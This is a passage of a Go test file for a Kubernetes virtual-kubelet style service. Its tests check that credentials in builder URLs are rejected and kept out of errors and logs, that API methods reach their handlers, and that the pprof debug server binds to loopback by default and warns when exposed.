			if err == nil || !strings.Contains(err.Error(), "JobScriptBuilderURLs") || strings.Contains(err.Error(), "s3cret") {
				t.Errorf("loaded, or the error repeats the credential: %v", err)
			}
			if strings.ContainsAny(u, "?#@") && !strings.Contains(fmt.Sprint(err), "credentials belong in a header") {
				t.Errorf("error does not say where credentials go: %v", err)
			}
			// FromConfig, even with a config not validated, logs no credential.
			cfg := DefaultConfig()
			cfg.Auth.Insecure = true
			cfg.JobScriptBuilderURLs = []string{u}
			var logs strings.Builder
			if _, _, err := FromConfig(cfg, slog.New(slog.NewTextHandler(&logs, nil)), nil); err == nil || strings.Contains(err.Error(), "s3cret") {
				t.Errorf("FromConfig: %v", err)
			}
			if strings.Contains(logs.String(), "s3cret") {
				t.Errorf("logged a credential:\n%s", logs.String())
			}
		})
	}
	var logs strings.Builder
	cfg := DefaultConfig()
	cfg.JobScriptBuilderURLs = []string{"https://builder:8443/build"}
	if _, _, err := FromConfig(cfg, slog.New(slog.NewTextHandler(&logs, nil)), nil); err != nil || !strings.Contains(logs.String(), "https://builder:8443/build") {
		t.Errorf("FromConfig: %v, logged:\n%s", err, logs.String())
	}
}

// TestOriginalVKMethods: each call of the original VK, with its method,
// reaches its handler (the original accepts any method).
func TestOriginalVKMethods(t *testing.T) {
	e := newEnv(t)
	pod := testPod("methods", "")
	for _, c := range []struct {
		method, path string
		body         any
	}{
		{http.MethodPost, api.PathPing, nil},
		{http.MethodPost, api.PathCreate, api.PodCreateRequests{Pod: pod}},
		{http.MethodGet, api.PathStatus, []corev1.Pod{pod}},
		{http.MethodGet, api.PathLogs, api.LogRequest{Namespace: pod.Namespace, PodUID: string(pod.UID), PodName: pod.Name, ContainerName: "main"}},
		{http.MethodPost, api.PathUpdateCache, pod},
		{http.MethodDelete, api.PathDelete, pod},
	} {
		if code, body := do(t, c.method, e.url+c.path, c.body, false); code != 200 {
			t.Errorf("%s %s: %d %s", c.method, c.path, code, body)
		}
	}
}

// TestPprofServer: Pprof.Enabled serves net/http/pprof on its own listener,
// loopback by default, and warns when it is not loopback.
func TestPprofServer(t *testing.T) {
	cfg, _, err := loadFile(t, "", map[string]string{"INTERLINK_AUTH_INSECURE": "true", "ENABLE_PPROF": "true"})
	if err != nil {
		t.Fatal(err)
	}
	app, err := NewApp(t.Context(), cfg, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	if app.Pprof == nil || app.PprofServer.Listen != "127.0.0.1:6061" {
		t.Fatalf("pprof server %+v", app.PprofServer)
	}
	rec := httptest.NewRecorder()
	app.Pprof.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/debug/pprof/goroutine?debug=1", nil))
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), "goroutine") {
		t.Errorf("pprof: %d %.200s", rec.Code, rec.Body.String())
	}
	cfg.Pprof.Address = "0.0.0.0"
	if w := cfg.CompatWarnings(); !has(w, "Pprof serves profiles without authentication on 0.0.0.0:6061") {
		t.Errorf("warnings %q", w)
	}
	cfg.Pprof.Port = "http"
	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "Pprof.Port") {
		t.Errorf("bad port: %v", err)
	}
}
